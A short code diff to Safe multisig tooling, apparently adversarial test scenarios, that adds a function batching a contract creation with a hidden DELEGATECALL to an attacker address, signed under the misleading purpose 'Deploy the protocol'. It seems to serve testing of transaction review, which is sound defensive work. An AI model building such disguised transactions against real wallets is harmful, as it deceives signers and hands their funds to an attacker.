@@ -7,6 +7,7 @@ from eth_typing import ChecksumAddress
 from eth_utils.address import to_checksum_address
 
 from hokctl.clients.access_control import AccessControl
+from hokctl.clients.create_call import CreateCall
 from hokctl.clients.multisend import MultiSend, MultiSendItem
 from hokctl.clients.safe import Operation, Safe
 from hokctl.clients.safe_deployments import SAFE_1_4_1
@@ -64,6 +65,18 @@ def delegatecall_in_batch(room: Room) -> "Carried":
     to = SAFE_1_4_1.multi_send_call_only
     data = MultiSend(to).multi_send(items, purpose="").data
     return _sign_foreign(room, room.safe_tx(call, to=to, data=data, operation=Operation.DELEGATECALL))
+
+
+def delegatecall_beside_creation(room: Room) -> "Carried":
+    """Hide a delegatecall beside the creation of a contract, which the MultiSend that creates passes on as well."""
+    creation = CreateCall(SAFE_1_4_1.create_call).perform_create2(room.safe, b"\0", bytes(32), purpose="")
+    items = (
+        MultiSendItem(to=creation.to or room.safe, value=0, data=creation.data, operation=Operation.DELEGATECALL),
+        MultiSendItem(to=room.address(ATTACKER), value=0, data=b"", operation=Operation.DELEGATECALL),
+    )
+    data = MultiSend(SAFE_1_4_1.multi_send).multi_send(items, purpose="").data
+    fields = {"to": SAFE_1_4_1.multi_send, "data": data, "operation": Operation.DELEGATECALL}
+    return _sign_foreign(room, room.safe_tx(_pay(room), **fields), "Deploy the protocol")
 
 
 def replaced_library(room: Room) -> "Carried":
